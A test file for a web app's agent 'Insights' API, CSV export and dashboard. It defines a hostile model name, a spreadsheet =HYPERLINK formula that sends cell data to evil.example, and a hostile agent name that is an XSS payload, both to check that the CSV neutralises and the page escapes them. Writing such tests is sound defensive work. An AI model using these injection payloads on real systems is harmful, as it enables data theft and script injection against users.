import { env } from "cloudflare:workers";
import { type InsightFigure, type InsightGroup, type Insights, insightsSchema } from "@waymark/protocol/views/insights";
import { beforeAll, describe, expect, it } from "vitest";
import { CSV_COLUMNS } from "../../src/pages/insights-csv";
import { toolCaller } from "../pages/fixture";
import { recordAgentTasks } from "../support/insight-tasks";
import { accountIndexed, ON_PAGE, ORIGIN, signIn, TOKENS, workerFetch } from "../support/worker";

/**
 * The Insights API, CSV and page through the Worker, for tasks recorded by a real MCP client
 * speaking the helper's wire format (its figures are claims): a read token reads the figures as
 * JSON and CSV, the dashboard session reads the page; the agent-written names a group is made of
 * (an agent's name, a model) are escaped on the page and neutralised in the CSV; bad queries
 * answer `field: rule`; percent-encoded paths reach the same routes.
 */
const HOSTILE_MODEL = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
const HOSTILE_AGENT = "<img src=x onerror=alert(1)>";
let readToken = "";

async function api(path: string, token = readToken): Promise<Response> {
  return workerFetch(`${ORIGIN}${path}`, { headers: { Authorization: `Bearer ${token}` } });
}

const figureOf = (group: InsightGroup | undefined, id: InsightFigure["id"]) => group?.figures.find((f) => f.id === id);

beforeAll(async () => {
  const made = await workerFetch(`${ORIGIN}/api/tokens`, {
    method: "POST",
    headers: { Authorization: `Bearer ${TOKENS.acme}`, "Content-Type": "application/json" },
    body: JSON.stringify({ name: "insights reader", scopes: ["read"] }),
  });
  readToken = ((await made.json()) as { token: string }).token;
  const callTool = toolCaller(workerFetch, `${ORIGIN}/mcp`, TOKENS.acme);
  const { workflowId: workflow_id, tasks } = await recordAgentTasks(callTool, "Insights", [
    { agent: "claude-code", model: "claude-sonnet-4-5", tasks: 5, passing: true },
    { agent: HOSTILE_AGENT, model: HOSTILE_MODEL, tasks: 5, passing: false, outside: 2 },
  ]);
  // A person approves two of the first agent's tasks on the page.
  const workflow = env.WORKFLOW.get(env.WORKFLOW.idFromName(workflow_id));
  for (const task of tasks[0]?.slice(0, 2) ?? []) {
    const added = await workflow.addFeedback("acme", { target: "task", target_id: task, verdict: "approved", body: "Good.", ...ON_PAGE });
    expect(added.ok).toBe(true);
  }
  await accountIndexed(workflow_id);
});

describe("GET /api/insights", () => {
  it("a read token gets the figures per agent, each with its sources and the tasks it rests on", async () => {
    const response = await api("/api/insights");
    expect(response.status, await response.clone().text()).toBe(200);
    expect(response.headers.get("Cache-Control")).toBe("no-store");
    const insights: Insights = insightsSchema.parse(await response.json());
    expect(insights.period.days).toBe(30);
    expect(insights.minimum_tasks).toBe(5);
    const claude = insights.groups.find((g) => g.key.agent === "claude-code");
    const other = insights.groups.find((g) => g.key.agent === HOSTILE_AGENT);
    expect(claude?.tasks).toBe(5);
    expect(figureOf(claude, "claimed_success")).toMatchObject({ value: 1, sources: { claimed: 5 } });
    // The commands came from a client, not an approved device's helper: claimed.
    expect(figureOf(claude, "tests_passed")).toMatchObject({
      value: 1,
      part: 5,
      rests_on: 5,
      sources: { signed: 0, claimed: 5, not_observed: 0 },
    });
    expect(figureOf(other, "tests_passed")).toMatchObject({ value: 0, rests_on: 5 });
    expect(figureOf(other, "outside_areas")).toMatchObject({ value: 0.4, part: 2, rests_on: 5 });
    expect(figureOf(claude, "approved")).toMatchObject({ value: 0.4, part: 2, sources: { observed: 5 } });
    expect(figureOf(claude, "line_share")).toMatchObject({ value: 0.9, part: 45, whole: 50 });
    expect(figureOf(claude, "cost_per_task")?.value).toBeCloseTo(0.3, 9);
    // Equal task counts: groups in label order ("<" before "c"), so the default comparison is the hostile name's against claude-code's.
    expect(insights.by).toEqual(["agent", "model"]);
    expect(insights.groups.map((g) => g.id)).toEqual([
      `agent=${encodeURIComponent(HOSTILE_AGENT)}|model=${encodeURIComponent(HOSTILE_MODEL)}`,
      "agent=claude-code|model=claude-sonnet-4-5",
    ]);
    const row = insights.comparison?.rows.find((r) => r.figure === "tests_passed");
    expect(row).toMatchObject({ a: 0, b: 1, difference: -1, method: "newcombe", verdict: "b_higher" });
    expect(insights.comparison?.rows.find((r) => r.figure === "claimed_success")?.verdict).toBe("cannot_tell_apart");
  });

  it("a percent-encoded path is the same route, and still needs a credential", async () => {
    expect((await api("/api/%69nsights")).status).toBe(200);
    expect((await workerFetch(`${ORIGIN}/api/%69nsights`)).status).toBe(401);
    expect((await workerFetch(`${ORIGIN}/api/insights.csv`)).status).toBe(401);
  });

  it.each([
    ["days=0", "days: must be a whole number from 1 to 731"],
    ["days=12x", "days: must be a whole number from 1 to 731"],
    ["from=2026-02-30", "from: must be a day as YYYY-MM-DD"],
    ["from=2026-03-02&to=2026-03-01", "from: must not be after to"],
    ["from=2020-01-01&to=2026-01-01", "from: the period must span at most 731 days"],
    ["by=colour", "by: must list agent, model, repository (comma-separated), or none"],
    ["repository=acme", "repository: must be a repository fingerprint (64 lowercase hex digits)"],
    ["trend=tasks", "trend: must be one of"],
    ["agent=%01", "agent: must be text of at most 200 characters without control characters"],
  ])("?%s answers INPUT_VALIDATION_ERROR naming the field", async (query, message) => {
    const response = await api(`/api/insights?${query}`);
    expect(response.status).toBe(400);
    const body = (await response.json()) as { code: string; message: string };
    expect(body.code).toBe("INPUT_VALIDATION_ERROR");
    expect(body.message.startsWith(message), body.message).toBe(true);
  });

  it("groups, filters and the comparison follow the query", async () => {
    const all = insightsSchema.parse(await (await api("/api/insights?by=none")).json());
    expect(all.groups.map((g) => [g.label, g.tasks])).toEqual([["all tasks", 10]]);
    expect(all.comparison).toBeNull();
    const one = insightsSchema.parse(await (await api("/api/insights?agent=claude-code&by=agent,model")).json());
    expect(one.groups.map((g) => g.label)).toEqual(["claude-code · claude-sonnet-4-5"]);
    const both = insightsSchema.parse(await (await api("/api/insights")).json());
    const [a, b] = both.groups.map((g) => g.id);
    const swapped = insightsSchema.parse(
      await (await api(`/api/insights?a=${encodeURIComponent(b as string)}&b=${encodeURIComponent(a as string)}`)).json(),
    );
    expect(swapped.comparison).toMatchObject({ a: 1, b: 0 });
    expect(swapped.comparison?.rows.find((r) => r.figure === "tests_passed")?.verdict).toBe("a_higher");
  });
});

describe("GET /api/insights.csv", () => {
  it("one row per group and figure; a name that starts like a formula is neutralised", async () => {
    const response = await api("/api/insights.csv?by=agent,model");
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(
      /^attachment; filename="waymark-insights-\d{4}-\d{2}-\d{2}-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const text = await response.text();
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(CSV_COLUMNS.join(","));
    // all tasks + two groups, 16 figures each, and the last CRLF.
    expect(lines).toHaveLength(1 + 3 * 16 + 1);
    // No cell starts with a formula character once unquoted: the hostile model is prefixed with an apostrophe.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")"`);
    expect(text).not.toMatch(/(^|,)"?[=+@]/m);
    const testsRow = lines.find((line) => line.includes(',"claude-code","claude-sonnet-4-5",') && line.includes(",tests_passed,"));
    expect(testsRow?.split(",").slice(7, 11)).toEqual(["tests_passed", "share", "1", "5"]);
  });
});

describe("GET /dashboard/insights", () => {
  it("the owner's page shows the figures, escapes the agents' words, and has a nonce'd style only", async () => {
    const cookie = await signIn();
    const response = await workerFetch(`${ORIGIN}/dashboard/insights?by=agent`, { headers: { Cookie: cookie } });
    expect(response.status).toBe(200);
    const csp = response.headers.get("Content-Security-Policy") ?? "";
    expect(csp).toContain("style-src 'nonce-");
    const page = await response.text();
    expect(page).not.toContain(HOSTILE_AGENT);
    expect(page).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(page).toContain('<h1 id="main-content" tabindex="-1">Insights</h1>');
    expect(page).toContain('aria-current="page">Insights</a>');
    expect(page).toContain("Numbers of the trend chart");
    expect(page).toContain("Numbers of the comparison");
    // No inline style attribute anywhere: the CSP would refuse it.
    expect(page).not.toMatch(/\sstyle="/);
  });

  it("without a session it sends the reader to sign in; a bad query is a plain 400", async () => {
    const anonymous = await workerFetch(`${ORIGIN}/dashboard/insights`, { redirect: "manual" });
    expect([302, 303]).toContain(anonymous.status);
    const cookie = await signIn();
    const bad = await workerFetch(`${ORIGIN}/dashboard/insights?days=9999`, { headers: { Cookie: cookie } });
    expect(bad.status).toBe(400);
    expect(await bad.text()).toBe("days: must be a whole number from 1 to 731");
  });
});
